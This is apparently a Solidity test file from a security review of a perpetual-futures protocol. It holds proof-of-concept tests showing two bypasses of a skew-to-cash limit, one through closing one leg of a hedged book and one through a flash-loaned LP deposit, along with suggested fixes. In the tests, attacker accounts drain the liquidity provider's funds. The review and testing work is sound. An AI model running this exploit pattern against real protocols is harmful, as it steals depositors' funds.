// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ICollateralVault} from "../../../contracts/interfaces/ICollateralVault.sol";
import {IPerpEngine} from "../../../contracts/interfaces/IPerpEngine.sol";
import {MockOracleAdapter} from "../../../contracts/mocks/MockOracleAdapter.sol";
import {ReviewFixture} from "./ReviewFixture.sol";
import {vm} from "../utils/Vm.sol";

/// @notice FINDING (high): the skew-to-cash limit (and maxSkew) is bypassed by closing one leg of a hedged book, so
///         the vault's exposure is bounded by the open-interest caps, not by its cash; a 4 % oracle move then leaves
///         traders' profit beyond the vault's cash (finding 13 again), and whoever sees an oracle update coming
///         (push-oracle lag, which DESIGN says "the skew caps bound") takes 50x what the limit allows.
/// @dev What is wrong: `_checkAfterIncrease` checks maxSkew, the funding band and the skew-to-cash limit only on trades
///      that are not pure own-position reductions. A book built in alternating steps (long account buys 100, short
///      account sells 100: |skew| never above 100 ETH = 300,000 USD) passes every check; closing the short leg is a
///      reduction, skips them all, and leaves the long leg naked. DESIGN ("Liquidity vault valuation, backing and
///      solvency") states traders' profit can pass the vault's cash only through a move of (1 − maxPnlFactor) /
///      skewCashRatio = 100 % locally; here a 4 % move does it.
///
///      Numbers: the local ETH market (3,000 USD, skewScale 1M, maxSkew 680, maxOI 50,000, 2/5 bp, tiers up to 10M
///      at 10x) and the local vault risk (skewCashRatio 50 %). Provider 1,000,000 USDC: a direct 167 ETH open is
///      refused (501,000 > 500,125.26, half the cash after her fee). Three pairs of accounts (1,000,000 USDC each) build 3,000 ETH long / 3,000 ETH
///      short each in 30 alternating steps of 100 ETH; the three short legs close: skew 9,000 ETH = 27,000,000 USD,
///      47x the limit and 13x maxSkew, in one block. Twelve seconds later the oracle is 3,120 (+4 %): traders'
///      profit against the vault (about 1,204,173) passes its cash (about 1,152,612); the long legs close and the
///      vault's collateral is negative (about −45,920: the provider's 1,000,000 is worth 0); the attacker withdraws
///      about 7,045,920 USDC for its 6,000,000 (+1,045,920 after fees, premium and 12 s of funding; a trader at the
///      limit could have made 4 % of ~500,000 = 20,000), and an honest trader's 200,000 withdrawal then reverts
///      `InsufficientVaultBalance`.
///
///      Fix (root cause): bound what the vault can lose, not the net of two attacker legs: cap each SIDE's open
///      interest × oracle by skewCashRatio × cash on every trade that increases that side's OI (the skew is at most
///      the larger side, and an own reduction can only shrink a side), which is what the issue asked for ("OI capped
///      relative to the vault's cash"); and recompute DESIGN's "move needed" with it.
contract SkewCashLimitBypassTest is ReviewFixture {
    address internal constant SHORT1 = address(0x5B01);
    address internal constant SHORT2 = address(0x5B02);
    address internal constant SHORT3 = address(0x5B03);

    MockOracleAdapter internal ethOracle;
    uint256 internal eth;
    address[3] internal longs;
    address[3] internal shorts;

    function setUp() public override {
        super.setUp();
        ethOracle = new MockOracleAdapter(3_000e18);
        eth = engine.listMarket("ETH", localEthParams(ethOracle), cryptoTiers());
        engine.setSkewCashRatio(0.5e18);
        _lpDeposit(PROVIDER, 1_000_000e6);
        _fund(ALICE, 200_000e6);
        longs = [MALLORY, MALLORY2, MALLORY3];
        shorts = [SHORT1, SHORT2, SHORT3];
        for (uint256 j; j < 3; ++j) {
            _fund(longs[j], 1_000_000e6);
            _fund(shorts[j], 1_000_000e6);
        }
    }

    function test_directOpen_refusedAtTheLimit() public {
        // 167 × 3,000 = 501,000 > floor((1,000,000 + her fee) × 50 %). Her fill: 3,000 × (1 + 83.5 / 1M) =
        // 3,000.2505 (G(167) / (167 · 1e18) = 167 / 2M exactly); fee 5 bp × 167 × 3,000.2505 = 250.52091675, which
        // reaches the vault before the check: limit 500,125.260458375.
        vm.prank(ALICE);
        vm.expectRevert(
            abi.encodeWithSelector(IPerpEngine.SkewAboveCashLimit.selector, eth, 501_000e18, 500_125.260458375e18)
        );
        engine.trade(ALICE, eth, 167e18, type(uint256).max);
    }

    function test_hedgedBook_closeOneLeg_skew47xTheLimit_then4PercentMoveBreaksTheVault() public {
        for (uint256 step; step < 30; ++step) {
            for (uint256 j; j < 3; ++j) {
                _trade(longs[j], eth, 100e18); // |skew| 0 → 100 (300,000 ≤ 500,000)
                _trade(shorts[j], eth, -100e18); // back to 0
            }
        }
        for (uint256 j; j < 3; ++j) {
            _close(shorts[j], eth); // own reductions: no maxSkew, funding band or cash check
        }
        assertEq(engine.marketState(eth).skew, 9_000e18, "3 x 3,000 ETH naked long");
        // 9,000 × 3,000 = 27,000,000 of skew against a limit of 576,305.85 (half the cash, which the attacker's fees
        // and the short legs' realised premium raised to 1,152,611.70) and maxSkew 680.
        (int256 lpCollateral, uint256 debt) = vault.collateralAndDebt(address(lpVault));
        assertEq(debt, 0, "no debt");
        uint256 limit = uint256(lpCollateral) / 2;
        assertLt(limit, 576_306e18, "limit 576,305.85");
        assertGe(27_000_000e18, 46 * limit, "skew notional more than 46x the skew-to-cash limit");

        uint256 attackerIn = 6_000_000e6;
        vm.warp(T0 + 12);
        ethOracle.setPrice(3_120e18); // +4 %
        (uint256 profit, uint256 cash) = liquidator.pnlFactor();
        assertGe(profit, cash, "traders' profit beyond the vault's whole cash after a 4 % move");

        for (uint256 j; j < 3; ++j) {
            _close(longs[j], eth);
        }
        assertTrue(vault.collateralOf(address(lpVault)) < 0, "the vault's collateral is negative");
        assertEq(lpVault.totalAssets(), 0, "the provider's 1,000,000 is worth 0");

        uint256 attackerOut;
        for (uint256 j; j < 3; ++j) {
            attackerOut += _withdrawAll(longs[j]) + _withdrawAll(shorts[j]);
        }
        assertGe(attackerOut, attackerIn + 1_000_000e6, "attacker: more than +1,000,000 USDC");

        uint256 held = vault.totalCollateral();
        assertLt(held, 200_000e18, "what is left for the honest trader");
        vm.prank(ALICE);
        vm.expectRevert(abi.encodeWithSelector(ICollateralVault.InsufficientVaultBalance.selector, 200_000e18, held));
        vault.withdraw(200_000e6, ALICE);
    }

    /// @dev Second bypass, same limit: the cash it is judged against can be borrowed. A flash-loaned LP deposit raises
    ///      the cash, the open passes, and the redemption that follows is checked only against the backing ratio
    ///      (|skew| × oracle × backingRatio), not against the skew-to-cash limit. Backing ratio 25 % (its minimum),
    ///      skewCashRatio 50 %, provider 1,000,000 (limit 500,000 = 166 ETH). In one transaction: deposit 4,000,000,
    ///      buy 680 ETH (2,040,000 ≤ half of 5,000,000), redeem every share (backing needed 510,000). Left: a 2,040,000
    ///      skew against about 1,000,000 of cash, 4x the limit (bounded by maxSkew here; by cash / backingRatio, 8x the
    ///      local limit, in general). Fix: keep
    ///      every market's |skew| × oracle ≤ skewCashRatio × the cash left in LP withdrawals too (`availableLiquidity`).
    function test_flashLpDeposit_opensBeyondTheLimit_thenLeaves() public {
        engine.setBackingRatio(0.25e18);
        lpVault.setLiquidityFee(0.001e18);
        uint256 shares = _lpDeposit(MALLORY, 4_000_000e6);
        _trade(MALLORY, eth, 680e18);
        vm.startPrank(MALLORY);
        uint256 back = lpVault.redeem(shares, MALLORY, MALLORY);
        vm.stopPrank();
        assertGe(back, 3_990_000e6, "the flash loan comes back, less about 0.2 % of fees");
        (int256 lpCollateral,) = vault.collateralAndDebt(address(lpVault));
        uint256 limit = uint256(lpCollateral) / 2;
        assertLt(limit, 503_000e18, "limit back to about 502,500 (the LP and trading fees stayed)");
        assertGe(2_040_000e18, 4 * limit, "skew 680 x 3,000 = 2,040,000: about 4x the limit");
    }

    function _withdrawAll(address account) internal returns (uint256 amount) {
        amount = vault.maxWithdraw(account);
        vm.prank(account);
        vault.withdraw(amount, account);
    }
}
